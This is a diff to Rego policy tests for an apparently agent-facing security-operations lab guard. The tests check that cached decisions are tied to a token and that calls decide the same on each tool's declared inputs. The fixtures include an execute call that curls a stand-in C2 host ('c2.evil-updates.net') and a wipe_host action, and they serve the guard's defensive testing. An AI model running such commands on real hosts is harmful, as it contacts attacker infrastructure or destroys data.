@@ -44,9 +44,9 @@ test_config_override if {
 # decide exactly as the values computed for the decision itself.
 cached(inp) := d if {
 	iv := data.soclab.guard.item_values with input as inp
-	ctx := {"assets": inp.assets, "tooling": inp.tooling, "scenario": inp.scenario, "item": iv}
-	d := data.soclab.guard.decision with input as object.remove(inp, ["assets", "tooling"])
-		with data.soclab.context as ctx
+	ctx := {"assets": inp.assets, "tooling": inp.tooling, "scenario": inp.scenario, "item": iv, "item_token": "t-1"}
+	stripped := object.union(object.remove(inp, ["assets", "tooling"]), {"item_token": "t-1"})
+	d := data.soclab.guard.decision with input as stripped with data.soclab.context as ctx
 }
 
 test_cached_item_values_decide_the_same if {
@@ -63,18 +63,24 @@ test_cached_item_values_decide_the_same if {
 	}
 }
 
-test_cached_item_is_used_only_for_its_scenario if {
+test_cached_item_is_used_only_with_its_token if {
 	inp := search("logs-*", {"size": 600})
-	ctx := {"assets": inp.assets, "tooling": inp.tooling, "scenario": inp.scenario, "item": {"config": {"max_search_size": 500}}}
-	stripped := object.remove(inp, ["assets", "tooling"])
+	ctx := {"assets": inp.assets, "tooling": inp.tooling, "scenario": inp.scenario, "item": {"config": {"max_search_size": 500}}, "item_token": "t-1"}
+	stripped := object.union(object.remove(inp, ["assets", "tooling"]), {"item_token": "t-1"})
 
 	# the cached item is what the decision reads...
 	data.soclab.guard.item == ctx.item with input as stripped with data.soclab.context as ctx
 
-	# ... but not for another scenario, nor when the input brings its own estate
-	other := object.union(stripped, {"scenario": {"id": "OTHER"}})
-	data.soclab.guard.item != ctx.item with input as other with data.soclab.context as ctx
-	data.soclab.guard.item != ctx.item with input as inp with data.soclab.context as ctx
+	# ... but not without the context's token (another context's, none, not a string),
+	# nor when the input brings its own estate
+	data.soclab.guard.item != ctx.item with input as object.union(stripped, {"item_token": "t-2"}) with data.soclab.context as ctx
+	data.soclab.guard.item != ctx.item with input as object.remove(stripped, ["item_token"]) with data.soclab.context as ctx
+	data.soclab.guard.item != ctx.item with input as object.union(stripped, {"item_token": 1}) with data.soclab.context as object.union(ctx, {"item_token": 1})
+	data.soclab.guard.item != ctx.item with input as object.union(stripped, {"assets": inp.assets}) with data.soclab.context as ctx
+	data.soclab.guard.item != ctx.item with input as object.union(stripped, {"tooling": inp.tooling}) with data.soclab.context as ctx
+
+	# ... nor for a context without a token
+	data.soclab.guard.item != ctx.item with input as stripped with data.soclab.context as object.remove(ctx, ["item_token"])
 }
 
 # A read decides the same with only the `seen` kinds the policy declares for reads.
@@ -94,5 +100,42 @@ test_reads_decide_on_the_declared_seen_kinds if {
 	] {
 		pruned := object.union(object.remove(inp, ["seen"]), {"seen": object.filter(inp.seen, data.soclab.guard.read_seen_kinds)})
 		decide(pruned) == decide(inp)
+	}
+}
+
+# Every call decides the same with only the `seen` kinds the policy declares for its tool.
+test_calls_decide_on_the_declared_seen_kinds if {
+	every inp in [
+		call("isolate_host", {"host": "web-01"}),
+		call("isolate_host", {"host": "db-01"}),
+		call("isolate_host", {"host": "DC-01"}),
+		call("release_host", {"host": "web-01"}),
+		call("kill_process", {"host": "web-01", "pid": 4711}),
+		call("kill_process", {"host": "sensor-01", "pid": "4242"}),
+		call("suspend_process", {"host": "web-01", "entity_id": "bWFsd2FyZS00NzEx"}),
+		call("get_file", {"host": "web-01", "path": "/tmp/.sysupdate"}),
+		call("execute", {"host": "web-01", "command": "ls -la /tmp"}),
+		call("execute", {"host": "web-01", "command": "curl http://c2.evil-updates.net/gate.php?id=42"}),
+		call("block_ip", {"ip": "203.0.113.50"}),
+		call("block_ip", {"ip": "198.51.100.9"}),
+		call("disable_user", {"user": "jdoe"}),
+		call("disable_user", {"user": "zeek", "host": "sensor-01"}),
+		call("delete_file", {"host": "web-01", "path": "/tmp/.sysupdate"}),
+		call("remove_persistence", {"host": "web-01", "path": "/etc/cron.d/sysupdate"}),
+		call("remove_persistence", {"host": "web-01", "path": "/etc/cron.d/zeekctl", "comment": "bWFsd2FyZS00NzEx"}),
+		call("wipe_host", {"host": "web-01"}),
+		call("submit_report", {"markdown": "C2 at http://c2.evil-updates.net/gate.php?id=42 from web-01"}),
+		search("logs-*", {"query": {"term": {"user.email": "ops@c2.evil-updates.net"}}}),
+	] {
+		kinds := data.soclab.guard.seen_kinds_by_tool[inp.tool]
+		pruned := object.union(object.remove(inp, ["seen"]), {"seen": object.filter(inp.seen, kinds)})
+		decide(pruned) == decide(inp)
+	}
+}
+
+# Each tool soclab defines declares its kinds (an undeclared tool would get every kind).
+test_every_tool_declares_its_seen_kinds if {
+	every t in data.soclab.guard.known_tools {
+		is_set(data.soclab.guard.seen_kinds_by_tool[t])
 	}
 }
